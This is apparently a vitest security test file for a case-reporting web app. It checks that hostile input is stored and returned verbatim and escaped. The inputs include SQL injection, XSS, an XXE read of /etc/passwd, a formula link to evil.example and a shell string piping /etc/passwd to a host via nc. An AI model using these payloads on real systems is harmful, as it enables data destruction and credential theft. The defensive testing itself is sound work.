import { XMLParser } from 'fast-xml-parser';
import { sql } from 'kysely';
import { describe, expect, it } from 'vitest';
import { withTransaction } from '../../kernel/db/transaction.ts';
import { system } from '../../kernel/http/actor.ts';
import { useCases } from '../../modules/cases/testing.ts';
import { listFiles, readText } from './house.ts';

/**
 * What people type comes back as they typed it: it is a text to every part that it goes through, and a statement, a page or a
 * command to none. Screens are React, which escapes; that no screen goes around it is held here.
 */
const texts = {
  'a statement': "'); drop table cases; --",
  'a statement in another quoting': "\\'; delete from people where 1=1; /* $$ */",
  'a page': '<img src=x onerror="alert(1)"><script>alert(2)</script></p>&lt;b&gt;&amp;',
  'an XML': ']]><!ENTITY x SYSTEM "file:///etc/passwd">&x;<?xml version="1.0"?>',
  'a template': '{{number}} $\u007b7*7} %s {0} <%= 1 %>',
  'a formula': '=HYPERLINK("https://evil.example";"x")',
  'a command': '$(rm -rf /) `id` ; cat /etc/passwd | nc evil 1',
  'right to left and joined letters': '\u202Eabc\u202C 👩‍👩‍👧‍👦 𠮷野家 é',
  'a prototype': '__proto__ constructor {"__proto__":{"admin":true}}',
};

const cases = useCases();
const { act, call, report } = cases;

describe.each(Object.entries(texts))('%s', (_, text) => {
  it('reported, said and asked comes back as it is, to everybody who may read it', async () => {
    const { id, number } = await report('resident', { text, address: text.slice(0, 80) });
    await act('worker', id, 'accept', { note: text });
    await act('resident', id, 'comment', { text });
    await act('worker', id, 'register', { classCode: 'C0118', severity: 2, note: text });
    for (const who of ['resident', 'worker', 'dispatcher']) {
      const { body, headers } = await call(who, 'GET', `/api/cases/${id}`);
      expect(body.text).toBe(text);
      expect(String(headers['content-type'])).toMatch(/^application\/json/);
      const said = body.timeline.flatMap((event: { text: string | null }) => event.text ?? []);
      expect(said).toContain(text);
    }
    const staff = await call('dispatcher', 'GET', `/api/cases/${id}`);
    expect(
      staff.body.timeline.filter((e: { text: string | null }) => e.text === text),
    ).toHaveLength(4);

    const json = await call('anonymous', 'GET', `/open311/v2/requests/${number}.json`);
    expect(json.body[0].description).toBe(text);
    const xml = await cases.app.inject({ url: `/open311/v2/requests/${number}.xml` });
    const parsed = new XMLParser({ processEntities: true, trimValues: false }).parse(xml.body);
    expect(parsed.service_requests.request.description).toBe(text);
    expect(xml.body).not.toMatch(/<(script|img|p)\b/);
  });

  it('searched for finds itself, and no more', async () => {
    const words = encodeURIComponent(text.slice(0, 100));
    const { body, status } = await call('dispatcher', 'GET', `/api/cases?view=area&q=${words}`);
    expect(status, JSON.stringify(body)).toBe(200);
    expect(body.items.map((one: { text: string }) => one.text)).toEqual([text]);
  });
});

describe('afterwards', () => {
  it('every table is there, with every row', async () => {
    const { rows } = await withTransaction(cases.database, system, {}, (trx) =>
      sql<{ cases: number; people: number }>`
        select (select count(*)::int from cases) as cases, (select count(*)::int from people) as people`.execute(
        trx,
      ),
    );
    expect(rows[0]?.cases).toBe(Object.keys(texts).length);
    expect(rows[0]?.people).toBeGreaterThan(10);
    expect(({} as { admin?: boolean }).admin).toBeUndefined();
  });

  it('no screen puts HTML together from what it is given', () => {
    const screens = listFiles(/^(ui|apps\/(mobile|console)|modules\/[^/]+\/web)\/.*\.tsx?$/);
    const around =
      /dangerouslySetInnerHTML|\.(inner|outer)HTML\b|insertAdjacentHTML|document\.write|\beval\(|new Function\(/;
    const found = screens.filter((path) => around.test(readText(path)));
    // its pin is a constant of ours
    expect(found).toEqual(['ui/map/drag-pin.ts']);
    expect(
      readText('ui/map/drag-pin.ts').match(/innerHTML =\s*('[^']*'|`[^`$]*`);/),
    ).not.toBeNull();
    expect(screens.length).toBeGreaterThan(50);
  });
});
